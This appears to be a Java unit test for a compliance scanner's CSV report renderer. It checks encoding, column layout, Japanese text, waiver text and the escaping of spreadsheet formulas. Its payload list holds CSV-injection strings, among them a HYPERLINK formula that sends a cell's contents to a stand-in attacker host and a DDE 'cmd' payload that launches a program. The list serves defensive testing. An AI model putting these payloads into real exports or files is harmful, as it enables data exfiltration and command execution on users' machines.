package io.lcscan.report.csv;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import io.lcscan.engine.ScanResult;
import io.lcscan.report.ReportFixtures;
import io.lcscan.report.ReportModel;
import io.lcscan.spi.Classification;
import io.lcscan.spi.Finding;
import io.lcscan.spi.Phase;
import io.lcscan.spi.Severity;
import io.lcscan.spi.Status;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class TestCsvRenderer {

  private static final List<String> FORMULAS =
      List.of(
          "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
          "+cmd|' /C calc'!A0",
          "@SUM(1)",
          "-1+1",
          "\t=1",
          "\r=1",
          "=1+1");

  private final CsvRenderer renderer = new CsvRenderer();

  @Test
  void bomHeaderAndCrlf() throws IOException {
    ReportModel model = ReportFixtures.modelWithEveryStatus("en");
    byte[] bytes = render(model);

    assertThat(Arrays.copyOf(bytes, 3)).containsExactly(0xEF, 0xBB, 0xBF);
    String text = new String(bytes, 3, bytes.length - 3, UTF_8);
    assertThat(text)
        .startsWith(
            "status,severity,phase,control id,control title,provider,account,region,resource type,"
                + "resource id,resource name,classification,message,waiver\r\n")
        .endsWith("\r\n");
    assertThat(text.replace("\r\n", "")).doesNotContain("\n");
    List<List<String>> rows = parse(text);
    assertThat(rows).hasSize(model.result().findings().size() + 1);
    assertThat(rows).allSatisfy(row -> assertThat(row).hasSize(14));
    assertThat(rows.stream().filter(row -> row.get(9).equals("arn:aws:s3:::records")).findFirst())
        .get()
        .asList()
        .containsExactly(
            "PASS",
            "high",
            "BUILD",
            "LC-BUILD-01",
            "Encryption at rest is on by default",
            "aws",
            "123456789012",
            "ap-northeast-1",
            "aws.s3.bucket",
            "arn:aws:s3:::records",
            "records",
            "C3",
            "",
            "");
    assertThat(rows)
        .anySatisfy(
            row ->
                assertThat(row.get(13))
                    .isEqualTo(
                        "WVR-7 (ticket SEC-1234, approver ciso@example.go.jp, expires 2027-03-31)"));
    // quoted because it holds quotes
    assertThat(text).contains("\"module.legacy.aws_s3_bucket.exports[\"\"2019\"\"]\"");
  }

  @Test
  void japaneseTextIsIntactUtf8() throws IOException {
    byte[] bytes = render(ReportFixtures.model("ja"));

    byte[] title = "保存データが既定で暗号化されている".getBytes(UTF_8);
    assertThat(indexOf(bytes, title)).isPositive();
    assertThat(new String(bytes, UTF_8)).contains(",鍵に削除猶予期間が設定されている,");
  }

  @Test
  void formulasAreNeutralised() throws IOException {
    List<Finding> findings = new ArrayList<>();
    for (String formula : FORMULAS) {
      findings.add(
          new Finding(
              "LC-BUILD-01",
              Status.FAIL,
              Severity.HIGH,
              Phase.BUILD,
              "aws",
              formula,
              formula,
              "aws.s3.bucket",
              formula,
              formula,
              Classification.C2,
              formula,
              Map.of(),
              null));
    }
    ScanResult small = ReportFixtures.result();
    ReportModel model =
        ReportModel.of(
            new ScanResult(
                small.metadata(),
                findings,
                List.of(),
                true,
                small.catalogVersion(),
                small.catalogDigest(),
                small.evaluatedAt()),
            ReportFixtures.catalog(),
            "en");

    List<List<String>> rows = parse(new String(render(model), UTF_8).substring(1));
    assertThat(rows).hasSize(FORMULAS.size() + 1);
    for (List<String> row : rows.subList(1, rows.size())) {
      for (int column : new int[] {6, 7, 9, 10, 12}) {
        String cell = row.get(column);
        assertThat(cell).startsWith("'");
        assertThat(FORMULAS).contains(cell.substring(1));
      }
    }
    assertThat(CsvRenderer.cell("-1+1")).isEqualTo("'-1+1");
    assertThat(CsvRenderer.cell("@SUM(1)")).isEqualTo("'@SUM(1)");
    assertThat(CsvRenderer.cell("\t=1")).isEqualTo("'\t=1");
    assertThat(CsvRenderer.cell("+cmd|' /C calc'!A0")).isEqualTo("'+cmd|' /C calc'!A0");
    assertThat(CsvRenderer.cell("=HYPERLINK(\"x\",\"y\")"))
        .isEqualTo("\"'=HYPERLINK(\"\"x\"\",\"\"y\"\")\"");
    assertThat(CsvRenderer.cell("\r=1")).isEqualTo("\"'\r=1\"");
    assertThat(CsvRenderer.cell("a,b")).isEqualTo("\"a,b\"");
    assertThat(CsvRenderer.cell("plain")).isEqualTo("plain");
    assertThat(CsvRenderer.cell(null)).isEmpty();
  }

  @Test
  void lapsedWaiverIsSaid() {
    assertThat(
            CsvRenderer.waiver(
                new Finding.WaiverRef("WVR-3", "isms", "SEC-1", "2026-01-31", true, "why")))
        .isEqualTo("WVR-3 LAPSED (ticket SEC-1, approver isms, expires 2026-01-31)");
  }

  private byte[] render(ReportModel model) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    renderer.render(model, out);
    return out.toByteArray();
  }

  /** An RFC 4180 reader: quoted fields may hold commas, quotes (doubled) and line breaks. */
  private static List<List<String>> parse(String text) {
    List<List<String>> rows = new ArrayList<>();
    List<String> row = new ArrayList<>();
    StringBuilder cell = new StringBuilder();
    boolean quoted = false;
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      if (quoted) {
        if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
          cell.append('"');
          i++;
        } else if (c == '"') {
          quoted = false;
        } else {
          cell.append(c);
        }
      } else if (c == '"') {
        quoted = true;
      } else if (c == ',') {
        row.add(cell.toString());
        cell.setLength(0);
      } else if (c == '\r' && i + 1 < text.length() && text.charAt(i + 1) == '\n') {
        row.add(cell.toString());
        cell.setLength(0);
        rows.add(row);
        row = new ArrayList<>();
        i++;
      } else {
        cell.append(c);
      }
    }
    return rows;
  }

  private static int indexOf(byte[] haystack, byte[] needle) {
    outer:
    for (int i = 0; i <= haystack.length - needle.length; i++) {
      for (int j = 0; j < needle.length; j++) {
        if (haystack[i + j] != needle[j]) {
          continue outer;
        }
      }
      return i;
    }
    return -1;
  }
}
